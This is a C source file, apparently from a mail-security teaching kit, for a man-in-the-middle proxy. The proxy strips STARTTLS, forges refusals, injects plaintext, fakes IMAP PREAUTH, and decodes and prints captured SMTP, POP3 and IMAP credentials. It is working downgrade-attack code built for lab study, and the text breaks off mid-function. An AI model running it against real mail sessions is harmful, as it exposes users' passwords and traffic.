/*
 * mitm.c: `mailsh mitm`, the man-in-the-middle proxy of the downgrade
 * lessons (see mitm.h for the output contract).
 *
 * One process, one poll loop, non-blocking sockets.  Each connection
 * has two directions (client to server, server to client), each with
 * a bounded input buffer that is cut into lines and a bounded output
 * buffer; a direction is read only while its output buffer has room
 * for everything one read can turn into (backpressure, not growth).
 * A line longer than MITM_LINE passes through in pieces, unchanged.
 * Once STARTTLS has been accepted, every byte is relayed blind.
 *
 * Outside facts relied on:
 *  - RFC 3207: "220" answers STARTTLS with go-ahead; EHLO replies are
 *    "250-" continuation lines and one final "250 " line (RFC 5321
 *    4.2.1), so removing the last line means renumbering the one before;
 *  - RFC 2595 / 2449: POP3 STLS answered "+OK"; CAPA is a multi-line
 *    response ending with a lone "."; SASL continuations start "+ ";
 *  - RFC 3501: capabilities come in "* CAPABILITY ..." and in
 *    "[CAPABILITY ...]" response codes (also in the greeting); STARTTLS
 *    is answered by the command's tag; "{N}" at a line's end announces
 *    N literal octets; PREAUTH greets an already logged-in session;
 *  - RFC 4616 (PLAIN: authzid NUL user NUL password, base64), the LOGIN
 *    mechanism (user, then password, each base64 after a challenge).
 */
#include "mitm.h"
#include "../protocols/pp.h"
#include "../protocols/util.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define MITM_LINE	8192	/* longest line handled as a line */
#define MITM_SLACK	512	/* room for a refusal or an injection */
#define MITM_OUT	(2 * MITM_LINE + 4 * MITM_SLACK)
#define MITM_MAX_CONNS	64
#define MITM_SHOW	300	/* bytes of a line printed */
#define MITM_CRED	512	/* user or password kept / decoded */

enum {
	M_PASS = 1, M_STRIP = 2, M_STRIPLD = 4, M_REFUSE = 8, M_INJECT = 16,
	M_PREAUTH = 32,
};

static const struct {
	const char *name;
	unsigned bit;
} mode_tab[] = {
	{ "pass", M_PASS },
	{ "strip-starttls", M_STRIP },
	{ "strip-logindisabled", M_STRIPLD },
	{ "refuse-starttls", M_REFUSE },
	{ "inject", M_INJECT },
	{ "preauth", M_PREAUTH },
	{ NULL, 0 },
};

/* The lab's default ports, which the client's table does not know. */
static const struct {
	int port;
	const char *proto;
	bool tls;
} lab_ports[] = {
	{ 2525, "smtp", false }, { 2587, "smtp", false },
	{ 2465, "smtp", true }, { 2110, "pop3", false },
	{ 2995, "pop3", true }, { 2143, "imap", false },
	{ 2993, "imap", true }, { 0, NULL, false },
};

/* One direction of a connection. */
struct half {
	char in[MITM_LINE];	/* received, not yet cut into lines */
	size_t inlen;
	char out[MITM_OUT];	/* to be written to the other side */
	size_t outlen;
	bool eof;		/* the source closed its sending side */
	bool shut;		/* EOF passed on to the destination */
	bool midline;		/* inside a long line passed in pieces */
	uint64_t lit;		/* IMAP literal octets still to pass */
	uint64_t bytes;		/* bytes received from the source */
};

enum sasl { SASL_NONE, SASL_PLAIN, SASL_LOGIN_USER, SASL_LOGIN_PASS };

struct mconn {
	unsigned id;
	int cfd, sfd;
	bool connecting;	/* non-blocking connect to the server */
	bool blind;		/* TLS runs: bytes only */
	const char *dead;	/* why it is to be closed, or NULL */
	struct half up;		/* client to server */
	struct half down;	/* server to client */
	char hold[MITM_LINE];	/* SMTP "250-" line held back (strip) */
	size_t holdlen;
	/* what the proxy knows about the session */
	bool greeted;
	bool starttls;		/* asked for, answer pending */
	char tag[PP_TAG_MAX];	/* IMAP tag of that STARTTLS */
	enum sasl sasl;
	char user[MITM_CRED];	/* USER or AUTH LOGIN user so far */
	bool data_cmd, in_data;	/* SMTP DATA sent / message text */
	bool capa, in_capa;	/* POP3 CAPA sent / its list */
};

struct mitm {
	const char *to;		/* HOST:PORT as given */
	unsigned modes;
	const struct pp_proto *proto;
	bool tls_target;	/* implicit TLS: blind from the start */
	bool quiet;		/* no C:/S: traffic lines */
	struct sockaddr_storage target;
	socklen_t target_len;
	int lfd;
	struct mconn *conns[MITM_MAX_CONNS];
	int nconns;
	unsigned next_id;
};

static volatile sig_atomic_t stop_sig;

static void
on_signal(int sig)
{
	stop_sig = sig;
}

/* Prints one "mitm: " line, with "#N " for a connection (c may be NULL). */
static void __attribute__((format(printf, 2, 3)))
say(const struct mconn *c, const char *fmt, ...)
{
	va_list ap;
	if (c)
		printf("mitm: #%u ", c->id);
	else
		fputs("mitm: ", stdout);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
}

/* Prints a relayed line or piece: "#N C: text" or "#N S: text". */
static void
show(const struct mitm *m, const struct mconn *c, const char *who,
    const char *p, size_t n, const char *note)
{
	char buf[4 * MITM_SHOW + 64];
	struct sbuf sb;
	if (m->quiet)
		return;
	sbuf_init(&sb, buf, sizeof buf);
	show_bytes(&sb, p, n < MITM_SHOW ? n : MITM_SHOW);
	if (n > MITM_SHOW)
		sbuf_printf(&sb, " ... (%zu bytes)", n);
	say(c, "%s %s%s", who, buf, note);
}

/* Prints captured credentials (bytes made visible) in the fixed form. */
static void
captured(const struct mconn *c, const char *user, size_t ulen,
    const char *pass, size_t plen, const char *how)
{
	char u[4 * MITM_CRED + 8], pw[4 * MITM_CRED + 8];
	struct sbuf su, sp;
	sbuf_init(&su, u, sizeof u);
	sbuf_init(&sp, pw, sizeof pw);
	show_bytes(&su, user, ulen);
	show_bytes(&sp, pass, plen);
	printf("mitm: captured credentials: user=%s password=%s (#%u, %s)\n",
	    u, pw, c->id, how);
}

/* Appends n bytes to h's output.  Cannot fail by the read gate's sizing;
 * if it would, the connection is marked dead (never overflows). */
static void
put(struct mconn *c, struct half *h, const char *p, size_t n)
{
	if (n > MITM_OUT - h->outlen) {
		c->dead = "internal: output buffer full";
		return;
	}
	memcpy(h->out + h->outlen, p, n);
	h->outlen += n;
}

/* Writes the held SMTP continuation line, with ' ' instead of '-' after
 * the code when last is set (it became the reply's final line). */
static void
flush_hold(struct mconn *c, bool last)
{
	if (c->holdlen == 0)
		return;
	if (last)
		c->hold[3] = ' ';
	put(c, &c->down, c->hold, c->holdlen);
	c->holdlen = 0;
}

/* ---- credentials ---- */

/* Decodes base64 (n bytes) into dst; returns the length or -1. */
static long
unb64(const char *p, size_t n, char *dst, size_t cap)
{
	if (n == 1 && p[0] == '=')
		return 0;
	return b64_decode(p, n, dst, cap);
}

/* Shows an AUTH PLAIN response (base64 authzid NUL user NUL pass). */
static void
capture_plain(struct mconn *c, const char *p, size_t n, const char *how)
{
	char d[3 * MITM_CRED];
	long l = unb64(p, n, d, sizeof d);
	char *u = l > 0 ? memchr(d, '\0', (size_t)l) : NULL;
	char *pw = u ? memchr(u + 1, '\0', (size_t)(d + l - u - 1)) : NULL;
	if (!pw) {
		say(c, "%s response is not base64 of authzid NUL user NUL "
		    "password", how);
		return;
	}
	if (u > d)
		say(c, "authorization identity: %.*s", (int)(u - d), d);
	captured(c, u + 1, (size_t)(pw - u - 1), pw + 1,
	    (size_t)(d + l - pw - 1), how);
}

/* Starts a SASL exchange for mechanism mech (the rest of the line is an
 * optional initial response ir, irn bytes). */
static void
sasl_start(struct mconn *c, const char *mech, size_t mn, const char *ir,
    size_t irn)
{
	if (word_is(mech, mn, "PLAIN")) {
		if (irn)
			capture_plain(c, ir, irn, "AUTH PLAIN");
		else
			c->sasl = SASL_PLAIN;
	} else if (word_is(mech, mn, "LOGIN")) {
		c->sasl = SASL_LOGIN_USER;
		if (irn) {
			long l = unb64(ir, irn, c->user, sizeof c->user - 1);
			c->user[l > 0 ? l : 0] = '\0';
			c->sasl = SASL_LOGIN_PASS;
		}
	} else if (mn) {
		say(c, "SASL mechanism %.*s: no reusable password in it",
		    (int)mn, mech);
	}
}

/* A client line answering a SASL challenge. */
static void
sasl_step(struct mconn *c, const char *t, size_t n)
{
	char d[MITM_CRED];
	long l;
	if (n == 1 && t[0] == '*') {
		c->sasl = SASL_NONE;
		return;
	}
	switch (c->sasl) {
	case SASL_PLAIN:
		capture_plain(c, t, n, "AUTH PLAIN");
		c->sasl = SASL_NONE;
		break;
	case SASL_LOGIN_USER:
		l = unb64(t, n, c->user, sizeof c->user - 1);
		c->user[l > 0 ? l : 0] = '\0';
		c->sasl = SASL_LOGIN_PASS;
		break;
	case SASL_LOGIN_PASS:
		l = unb64(t, n, d, sizeof d);
		captured(c, c->user, strlen(c->user), d, l > 0 ? (size_t)l : 0,
		    "AUTH LOGIN");
		c->sasl = SASL_NONE;
		break;
	case SASL_NONE:
		break;
	}
}

/* Reads one IMAP astring (atom or quoted string) from *p (*n bytes)
 * into dst; advances *p.  Returns its length, or -1 for a literal or a
 * syntax error. */
static long
astring(const char **p, size_t *n, char *dst, size_t cap)
{
	const char *s = *p, *e = *p + *n;
	size_t l = 0;
	while (s < e && *s == ' ')
		s++;
	if (s == e || *s == '{')
		return -1;
	if (*s == '"') {
		for (s++; s < e && *s != '"'; s++) {
			if (*s == '\\' && s + 1 < e)
				s++;
			if (l < cap)
				dst[l++] = *s;
		}
		if (s == e)
			return -1;
		s++;
	} else {
		for (; s < e && *s != ' '; s++)
			if (l < cap)
				dst[l++] = *s;
	}
	*n = (size_t)(e - s);
	*p = s;
	return (long)l;
}

/* IMAP "{N}" or "{N+}" at the end of a line: the literal's size, or 0. */
static uint64_t
literal_at_end(const char *t, size_t n)
{
	if (n < 3 || t[n - 1] != '}')
		return 0;
	size_t i = n - 1;
	if (t[i - 1] == '+')
		i--;
	uint64_t v = 0, mul = 1;
	size_t digits = 0;
	while (i > 0 && t[i - 1] >= '0' && t[i - 1] <= '9' && digits < 18) {
		v += (uint64_t)(t[i - 1] - '0') * mul;
		mul *= 10;
		i--;
		digits++;
	}
	return digits && i > 0 && t[i - 1] == '{' ? v : 0;
}

/* ---- client to server ---- */

/* Answers a STARTTLS itself (refuse-starttls); the server never sees it. */
static void
refuse(struct mitm *m, struct mconn *c)
{
	char r[PP_TAG_MAX + 64];
	int k;
	if (m->proto->id == PROTO_SMTP)
		k = snprintf(r, sizeof r, "454 4.7.0 TLS not available\r\n");
	else if (m->proto->id == PROTO_POP3)
		k = snprintf(r, sizeof r, "-ERR TLS not available\r\n");
	else
		k = snprintf(r, sizeof r, "%s NO TLS not available\r\n",
		    c->tag);
	put(c, &c->down, r, (size_t)k);
	show(m, c, "S:", r, (size_t)k - 2, "  (forged by the proxy)");
	say(c, "refused STARTTLS in the server's name: the server never saw "
	    "it, the session stays in plaintext");
}

/* Handles one complete client line t (n bytes, no line end); the line
 * with its end is p (len bytes).  Forwards it unless refused. */
static void
client_line(struct mitm *m, struct mconn *c, const char *p, size_t len,
    const char *t, size_t n)
{
	enum pp_proto_id id = m->proto->id;
	const char *verb = t, *a;
	size_t vn = n, an;

	show(m, c, "C:", t, n, "");
	if (c->in_data) {
		if (n == 1 && t[0] == '.')
			c->in_data = false;
		put(c, &c->up, p, len);
		return;
	}
	if (c->sasl != SASL_NONE) {
		sasl_step(c, t, n);
		put(c, &c->up, p, len);
		return;
	}
	if (id == PROTO_IMAP) {
		verb = next_word(t, n, &vn);
		size_t tl = (size_t)(verb - t);
		while (tl > 0 && t[tl - 1] == ' ')
			tl--;
		if (tl >= sizeof c->tag)
			tl = sizeof c->tag - 1;
		memcpy(c->tag, t, tl);
		c->tag[tl] = '\0';
		c->up.lit = literal_at_end(t, n);
	}
	a = next_word(verb, vn, &an);
	if (word_is(verb, vn, m->proto->starttls_verb)) {
		if (m->modes & M_REFUSE) {
			refuse(m, c);
			return;
		}
		c->starttls = true;
	} else if (word_is(verb, vn, id == PROTO_IMAP ? "AUTHENTICATE"
	    : "AUTH")) {
		size_t irn, mn = 0;
		const char *ir = next_word(a, an, &irn);
		while (mn < an && a[mn] != ' ')
			mn++;
		sasl_start(c, a, mn, ir, irn);
	} else if (id == PROTO_SMTP && word_is(verb, vn, "DATA")) {
		c->data_cmd = true;
	} else if (id == PROTO_POP3 && word_is(verb, vn, "CAPA")) {
		c->capa = true;
	} else if (id == PROTO_POP3 && word_is(verb, vn, "USER")) {
		size_t k = an < sizeof c->user - 1 ? an : sizeof c->user - 1;
		memcpy(c->user, a, k);
		c->user[k] = '\0';
	} else if (id == PROTO_POP3 && word_is(verb, vn, "PASS")) {
		captured(c, c->user, strlen(c->user), a, an, "USER/PASS");
	} else if (id == PROTO_IMAP && word_is(verb, vn, "LOGIN")) {
		char u[MITM_CRED], pw[MITM_CRED];
		long ul = astring(&a, &an, u, sizeof u), pl = -1;
		if (ul >= 0)
			pl = astring(&a, &an, pw, sizeof pw);
		if (pl >= 0)
			captured(c, u, (size_t)ul, pw, (size_t)pl, "LOGIN");
		else
			say(c, "LOGIN with a literal: not decoded here");
	}
	put(c, &c->up, p, len);
}

/* ---- server to client ---- */

/* The server said yes to STARTTLS: inject (mode inject), go blind. */
static void
go_ahead(struct mitm *m, struct mconn *c)
{
	static const char *const inj[] = {
		[PROTO_SMTP] = "250-PIPELINING injected\r\n"
		    "250 AUTH PLAIN LOGIN injected\r\n",
		[PROTO_POP3] = "+OK injected\r\n",
		[PROTO_IMAP] = "* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] "
		    "injected\r\n",
	};
	c->starttls = false;
	if (m->modes & M_INJECT) {
		const char *s = inj[m->proto->id];
		put(c, &c->down, s, strlen(s));
		say(c, "injected %zu plaintext bytes after the go-ahead, in "
		    "the same write: a careless client reads them as if "
		    "they came over TLS", strlen(s));
	}
	c->blind = true;
	say(c, "STARTTLS accepted: TLS from here on, relaying bytes blind "
	    "(the proxy cannot read or change them)");
}

/* Case-insensitive search for w in p[0..n); returns its offset or -1. */
static long
find_ci(const char *p, size_t n, const char *w)
{
	size_t wl = strlen(w);
	for (size_t i = 0; i + wl <= n; i++)
		if (strncasecmp(p + i, w, wl) == 0)
			return (long)i;
	return -1;
}

/* Copies an IMAP response line t (n bytes) to dst (n bytes room),
 * dropping the capabilities selected by modes from "* CAPABILITY" and
 * "[CAPABILITY ...]".  Returns the new length; *hit names what went. */
static size_t
caps_filter(const char *t, size_t n, char *dst, unsigned modes,
    const char **hit)
{
	size_t rs, re = n, o, i;
	long k = find_ci(t, n, "[CAPABILITY ");
	if (n >= 13 && strncasecmp(t, "* CAPABILITY ", 13) == 0) {
		rs = 12;
	} else if (k >= 0) {
		const char *rb;
		rs = (size_t)k + 11;
		rb = memchr(t + rs, ']', n - rs);
		re = rb ? (size_t)(rb - t) : n;
	} else {
		memcpy(dst, t, n);
		return n;
	}
	memcpy(dst, t, rs);
	o = rs;
	for (i = rs; i < re;) {
		size_t j = i, e;
		while (j < re && t[j] == ' ')
			j++;
		for (e = j; e < re && t[e] != ' '; e++)
			;
		if ((modes & M_STRIP) && e - j == 8 &&
		    strncasecmp(t + j, "STARTTLS", 8) == 0)
			*hit = "STARTTLS";
		else if ((modes & M_STRIPLD) && e - j == 13 &&
		    strncasecmp(t + j, "LOGINDISABLED", 13) == 0)
			*hit = "LOGINDISABLED";
		else {
			memcpy(dst + o, t + i, e - i);
			o += e - i;
		}
		i = e;
	}
	memcpy(dst + o, t + re, n - re);
	return o + n - re;
}

/* SMTP reply line: strips STARTTLS, holding one "250-" line back so the
 * reply's last remaining line can be made final.  Returns true when the
 * line has been dealt with (held or dropped). */
static bool
smtp_line(struct mitm *m, struct mconn *c, const char *p, size_t len,
    const char *t, size_t n, int code, bool final)
{
	if (c->sasl != SASL_NONE && final && code != 334)
		c->sasl = SASL_NONE;
	if (c->data_cmd && final) {
		c->in_data = code == 354;
		c->data_cmd = false;
	}
	if (!(m->modes & M_STRIP))
		return false;
	if (code == 250 && n >= 12 && strncasecmp(t + 4, "STARTTLS", 8) == 0
	    && (n == 12 || t[12] == ' ')) {
		if (!final) {
			say(c, "stripped STARTTLS from the EHLO reply");
			return true;
		}
		if (c->holdlen) {
			say(c, "stripped STARTTLS from the EHLO reply (its "
			    "last line: the line before now ends it)");
			flush_hold(c, true);
			return true;
		}
	}
	flush_hold(c, false);
	if (!final && len <= sizeof c->hold) {
		memcpy(c->hold, p, len);
		c->holdlen = len;
		return true;
	}
	return false;
}

/* Handles one complete server line t (n bytes, no line end); the line
 * with its end is p (len bytes).  Forwards it, changed per mode. */
static void
server_line(struct mitm *m, struct mconn *c, const char *p, size_t len,
    const char *t, size_t n)
{
	char w[MITM_LINE + 16];
	const char *eol = t + n;
	size_t eoln = len - n;
	bool greeting = !c->greeted, pos = false, final = true;
	enum pp_proto_id id = m->proto->id;

	show(m, c, "S:", t, n, "");
	if (id == PROTO_SMTP) {
		int code = 0;
		if (n >= 3 && t[0] >= '1' && t[0] <= '5' && t[1] >= '0' &&
		    t[1] <= '9' && t[2] >= '0' && t[2] <= '9')
			code = (t[0] - '0') * 100 + (t[1] - '0') * 10 +
			    (t[2] - '0');
		final = n == 3 || (n > 3 && t[3] != '-');
		pos = code == 220;
		if (code && smtp_line(m, c, p, len, t, n, code, final))
			return;
	} else {
		bool cont = n > 0 && t[0] == '+' && (n == 1 || t[1] == ' ');
		if (id == PROTO_IMAP) {
			final = !cont && !(n > 0 && t[0] == '*');
			if (c->starttls) {
				size_t tl = strlen(c->tag);
				final = n > tl && strncmp(t, c->tag, tl) == 0
				    && t[tl] == ' ';
				pos = final && word_is(t + tl + 1,
				    n - tl - 1, "OK");
			}
		} else {
			pos = word_is(t, n, "+OK");
			final = !cont && !c->in_capa;
		}
		if (c->sasl != SASL_NONE && final)
			c->sasl = SASL_NONE;
	}
	if (greeting) {
		c->greeted = true;
		final = false;	/* never the answer to STARTTLS */
	}
	if (id == PROTO_POP3) {
		if (c->in_capa) {
			if (n == 1 && t[0] == '.') {
				c->in_capa = false;
			} else if ((m->modes & M_STRIP) &&
			    word_is(t, n, "STLS")) {
				say(c, "stripped STLS from the CAPA list");
				return;
			}
		} else if (c->capa && !greeting) {
			c->capa = false;
			c->in_capa = pos;
		}
	}
	if (id == PROTO_IMAP && n <= MITM_LINE) {
		const char *hit = NULL;
		if (greeting && (m->modes & M_PREAUTH) && n >= 4 &&
		    strncasecmp(t, "* OK", 4) == 0 && (n == 4 ||
		    t[4] == ' ')) {
			memcpy(w, "* PREAUTH", 9);
			memcpy(w + 9, t + 4, n - 4);
			n += 5;
			t = w;
			say(c, "turned the greeting's * OK into * PREAUTH: the "
			    "client believes it is logged in, and STARTTLS is "
			    "no longer allowed");
		}
		n = caps_filter(t, n, w, m->modes, &hit);
		t = w;
		if (hit)
			say(c, "stripped %s from the capabilities", hit);
		c->down.lit = literal_at_end(t, n);
	}
	put(c, &c->down, t, n);
	put(c, &c->down, eol, eoln);
	if (c->starttls && final) {
		if (pos)
			go_ahead(m, c);
		else
			c->starttls = false;
	}
}

/* ---- framing and the loop ---- */

/* Passes what h has received on: lines to client_line / server_line,
 * literals, long-line pieces and blind bytes unchanged.  At EOF, an
 * unterminated rest goes on as it is. */
static void
pump(struct mitm *m, struct mconn *c, struct half *h)
{
	size_t off = 0;
	bool up = h == &c->up;
	while (off < h->inlen && !c->dead) {
		char *s = h->in + off;
		size_t left = h->inlen - off, k;
		if (c->blind) {
			flush_hold(c, false);
			put(c, h, s, left);
			off = h->inlen;
			break;
		}
		if (h->lit > 0) {
			k = h->lit < left ? (size_t)h->lit : left;
			put(c, h, s, k);
			h->lit -= k;
			off += k;
			continue;
		}
		char *lf = memchr(s, '\n', left);
		if (!lf && off == 0 && h->inlen == MITM_LINE) {
			flush_hold(c, false);
			show(m, c, up ? "C:" : "S:", s, left,
			    "  (a piece of a long line, passed on as it is)");
			put(c, h, s, left);
			h->midline = true;
			off = left;
			break;
		}
		if (!lf && !h->eof)
			break;
		k = lf ? (size_t)(lf - s) + 1 : left;
		if (h->midline || !lf) {
			if (!up)
				flush_hold(c, false);
			show(m, c, up ? "C:" : "S:", s, k, lf ? "  (the end "
			    "of a long line)" : "  (no line end before EOF)");
			put(c, h, s, k);
			h->midline = false;
		} else {
			size_t tn = k - 1;
			if (tn > 0 && s[tn - 1] == '\r')
				tn--;
			if (up)
				client_line(m, c, s, k, s, tn);
			else
				server_line(m, c, s, k, s, tn);
		}
		off += k;
	}
	memmove(h->in, h->in + off, h->inlen - off);
	h->inlen -= off;
	if (h->eof && !up)
		flush_hold(c, false);
}

/* May h's source be read now?  Only when all one read can become fits
 * in the outputs (a full input, a held line, a refusal). */
static bool
can_read(const struct mconn *c, const struct half *h)
{
	if (h->eof || c->connecting || c->dead || h->inlen >= MITM_LINE)
		return false;
	if (MITM_OUT - h->outlen < 2 * MITM_LINE + MITM_SLACK)
		return false;
	return h != &c->up || MITM_OUT - c->down.outlen >= MITM_SLACK;
}

/* Reads from fd into h and passes it on.  Marks c dead on errors. */
static void
do_read(struct mitm *m, struct mconn *c, int fd, struct half *h)
{
	ssize_t r = recv(fd, h->in + h->inlen, MITM_LINE - h->inlen, 0);
	if (r < 0) {
		if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
			c->dead = h == &c->up ? "client connection error"
			    : "server connection error";
		return;
	}
	if (r == 0)
		h->eof = true;
	h->inlen += (size_t)r;
	h->bytes += (size_t)r;
	pump(m, c, h);
}

/* Writes what h holds to fd.  Marks c dead on errors. */
static void
do_write(struct mconn *c, int fd, struct half *h)
{
	ssize_t r = send(fd, h->out, h->outlen, MSG_NOSIGNAL);
	if (r < 0) {
		if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
			c->dead = "write failed (the other side is gone)";
		return;
	}
	memmove(h->out, h->out + r, h->outlen - (size_t)r);
	h->outlen -= (size_t)r;
}

/* Is sa a loopback address (127.0.0.0/8, ::1, ::ffff:127.0.0.0/104)? */
static bool
is_loopback(const struct sockaddr *sa)
{
	if (sa->sa_family == AF_INET) {
		const struct sockaddr_in *s4 = (const void *)sa;
		return (ntohl(s4->sin_addr.s_addr) >> 24) == 127;
	}
	if (sa->sa_family == AF_INET6) {
		const struct in6_addr *a =
		    &((const struct sockaddr_in6 *)(const void *)sa)->sin6_addr;
		return IN6_IS_ADDR_LOOPBACK(a) ||
		    (IN6_IS_ADDR_V4MAPPED(a) && a->s6_addr[12] == 127);
	}
	return false;
}

/* Accepts waiting clients and starts their server connections. */
static void
accept_all(struct mitm *m)
{
	for (;;) {
		struct sockaddr_storage ss;
		socklen_t sl = sizeof ss;
		char host[NI_MAXHOST], serv[NI_MAXSERV];
		int fd = accept4(m->lfd, (struct sockaddr *)&ss, &sl,
		    SOCK_NONBLOCK | SOCK_CLOEXEC);
		if (fd < 0) {
			if (errno == EINTR || errno == ECONNABORTED)
				continue;
			if (errno != EAGAIN && errno != EWOULDBLOCK)
				say(NULL, "accept: %s", strerror(errno));
			return;
		}
		if (getnameinfo((struct sockaddr *)&ss, sl, host, sizeof host,
		    serv, sizeof serv, NI_NUMERICHOST | NI_NUMERICSERV))
			snprintf(host, sizeof host, "?"), serv[0] = '\0';
		struct mconn *c = NULL;
		if (m->nconns < MITM_MAX_CONNS)
			c = calloc(1, sizeof *c);
		if (!c) {
			say(NULL, "refused %s port %s: %s", host, serv,
			    m->nconns < MITM_MAX_CONNS ? "out of memory"
			    : "too many connections");
			close(fd);
			continue;
		}
		c->id = ++m->next_id;
		c->cfd = fd;
		c->blind = m->tls_target;
		c->sfd = socket(m->target.ss_family,
		    SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		m->conns[m->nconns++] = c;
		say(c, "client %s port %s connected; connecting to %s", host,
		    serv, m->to);
		if (c->sfd < 0 || (connect(c->sfd,
		    (struct sockaddr *)&m->target, m->target_len) < 0 &&
		    errno != EINPROGRESS))
			c->dead = "cannot connect to the server";
		else
			c->connecting = true;
		if (m->tls_target)
			say(c, "the server speaks TLS from the first byte: "
			    "relaying bytes blind");
	}
}

/* Ends a connection: says why, closes both sockets, frees it. */
static void
conn_end(struct mitm *m, int i)
{
	struct mconn *c = m->conns[i];
	say(c, "closed: %s (client sent %llu bytes, server %llu)",
	    c->dead, (unsigned long long)c->up.bytes,
	    (unsigned long long)c->down.bytes);
	close(c->cfd);
	if (c->sfd >= 0)
		close(c->sfd);
	free(c);
	m->conns[i] = m->conns[--m->nconns];
}

/* After the events: connect results, EOF passed on, closing. */
static void
conn_tidy(struct mconn *c, short sev)
{
	if (c->connecting && !c->dead && (sev & (POLLOUT | POLLERR |
	    POLLHUP))) {
		int err = 0;
		socklen_t el = sizeof err;
		getsockopt(c->sfd, SOL_SOCKET, SO_ERROR, &err, &el);
		if (err) {
			say(c, "cannot connect to the server: %s",
			    strerror(err));
			c->dead = "no server";
		}
		c->connecting = false;
	}
	if (c->connecting || c->dead)
		return;
	if (c->up.eof && !c->up.inlen && !c->up.outlen && !c->up.shut) {
		shutdown(c->sfd, SHUT_WR);
		c->up.shut = true;
	}
	if (c->down.eof && !c->down.inlen && !c->down.outlen &&
	    !c->down.shut) {
		shutdown(c->cfd, SHUT_WR);
		c->down.shut = true;
	}
	if (c->up.shut && c->down.shut)
		c->dead = "both sides done";
}

/* The poll loop: runs until SIGINT/SIGTERM.  Returns the exit status. */
static int
run(struct mitm *m)
{
	static struct pollfd pfd[1 + 2 * MITM_MAX_CONNS];
	sigset_t block, none;
	sigemptyset(&block);
	sigaddset(&block, SIGINT);
	sigaddset(&block, SIGTERM);
	sigprocmask(SIG_BLOCK, &block, &none);
	sigdelset(&none, SIGINT);
	sigdelset(&none, SIGTERM);

	while (!stop_sig) {
		int n = m->nconns;
		pfd[0] = (struct pollfd){ m->lfd, POLLIN, 0 };
		for (int i = 0; i < n; i++) {
			struct mconn *c = m->conns[i];
			short ce = 0, se = 0;
			if (can_read(c, &c->up))
				ce |= POLLIN;
			if (c->down.outlen)
				ce |= POLLOUT;
			if (can_read(c, &c->down))
				se |= POLLIN;
			if (c->up.outlen || c->connecting)
				se |= POLLOUT;
			pfd[1 + 2 * i] = (struct pollfd){ c->cfd, ce, 0 };
			pfd[2 + 2 * i] = (struct pollfd){ c->sfd, se, 0 };
		}
		if (ppoll(pfd, 1 + 2 * (nfds_t)n, NULL, &none) < 0) {
			if (errno == EINTR)
				continue;
			fprintf(stderr, "mitm: poll: %s\n", strerror(errno));
			return 1;
		}
		for (int i = 0; i < n; i++) {
			struct mconn *c = m->conns[i];
			short cev = pfd[1 + 2 * i].revents;
			short sev = pfd[2 + 2 * i].revents;
			conn_tidy(c, sev);
			if (cev & POLLOUT)
				do_write(c, c->cfd, &c->down);
			if (sev & POLLOUT && !c->dead && !c->connecting)
				do_write(c, c->sfd, &c->up);
			if (cev & (POLLIN | POLLHUP | POLLERR) &&
			    can_read(c, &c->up))
				do_read(m, c, c->cfd, &c->up);
			if (sev & (POLLIN | POLLHUP | POLLERR) &&
			    can_read(c, &c->down))
				do_read(m, c, c->sfd, &c->down);
			/* an error or a hang-up nobody reads: gone */
			if ((cev & POLLERR) || ((cev & POLLHUP) && c->up.eof))
				c->dead = c->dead ? c->dead : "client gone";
			if (!c->connecting && ((sev & POLLERR) ||
			    ((sev & POLLHUP) && c->down.eof)))
				c->dead = c->dead ? c->dead : "server gone";
			conn_tidy(c, 0);
		}
		for (int i = m->nconns - 1; i >= 0; i--)
			if (m->conns[i]->dead)
				conn_end(m, i);
		if (pfd[0].revents & POLLIN)
			accept_all(m);
	}
	say(NULL, "stopping on signal %d, closing %d connection(s)",
	    (int)stop_sig, m->nconns);
	while (m->nconns > 0) {
		m->conns[m->nconns - 1]->dead = "proxy stopped";
		conn_end(m, m->nconns - 1);
	}
	return 0;
}

/* ---- command line ---- */

static void
usage(FILE *f)
{
	fputs(
"usage: mailsh mitm --listen [ADDR:]PORT | --port PORT  --to HOST:PORT\n"
"                   [--mode MODE[,MODE...]] [--proto smtp|pop3|imap]\n"
"                   [--port-file FILE] [--allow-nonlocal] [--quiet]\n"
"\n"
"A man in the middle for the downgrade lessons: relays a mail session\n"
"and shows what an attacker in between sees (credentials decoded).\n"
"\n"
"  --listen [ADDR:]PORT  where to listen (ADDR default 127.0.0.1;\n"
"                        [::1]:PORT for IPv6; PORT 0: a free port)\n"
"  --port PORT           the same as --listen 127.0.0.1:PORT\n"
"  --to HOST:PORT        the real server\n"
"  --mode MODES          comma-separated (default pass):\n"
"      pass                 relay unchanged, print what passes\n"
"      strip-starttls       remove STARTTLS / STLS from EHLO, CAPA and\n"
"                           CAPABILITY (also in the IMAP greeting)\n"
"      strip-logindisabled  remove LOGINDISABLED from IMAP capabilities\n"
"      refuse-starttls      answer STARTTLS / STLS with a refusal itself\n"
"      inject               add a plaintext line after the go-ahead\n"
"      preauth              turn the IMAP greeting * OK into * PREAUTH\n"
"  --proto P             smtp, pop3 or imap (else from the --to port)\n"
"  --port-file FILE      write the listening port to FILE\n"
"  --allow-nonlocal      allow addresses outside 127.0.0.0/8 and ::1\n"
"  -q, --quiet           print only what the proxy did, not each line\n"
"\n"
"Output: one line per event on standard output, starting \"mitm: \";\n"
"errors on standard error.  Stop with Ctrl-C (SIGINT) or SIGTERM.\n", f);
}

/* Splits "[ADDR:]PORT" / "[V6]:PORT" / "HOST:PORT" into host (empty if
 * none) and port (0..65535).  Returns 0, or -1 on bad syntax. */
static int
split_hostport(const char *s, char *host, size_t hcap, int *port)
{
	const char *h = s, *ps = s, *colon;
	size_t hl = 0;
	if (s[0] == '[') {
		const char *rb = strchr(s, ']');
		if (!rb || rb[1] != ':')
			return -1;
		h = s + 1;
		hl = (size_t)(rb - h);
		ps = rb + 2;
	} else if ((colon = strrchr(s, ':')) != NULL) {
		if (memchr(s, ':', (size_t)(colon - s)))
			return -1;	/* a bare IPv6 address needs [] */
		hl = (size_t)(colon - s);
		ps = colon + 1;
	}
	if (hl >= hcap)
		return -1;
	memcpy(host, h, hl);
	host[hl] = '\0';
	char *end;
